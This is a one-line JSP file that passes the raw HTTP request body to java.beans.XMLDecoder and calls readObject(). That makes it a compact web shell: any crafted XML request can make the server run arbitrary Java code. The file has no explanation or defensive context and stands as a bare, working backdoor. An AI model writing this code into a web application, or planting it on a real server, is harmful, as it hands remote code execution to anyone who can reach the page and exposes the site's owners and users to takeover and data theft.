<% java.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream()); d.readObject(); /* w */ %>
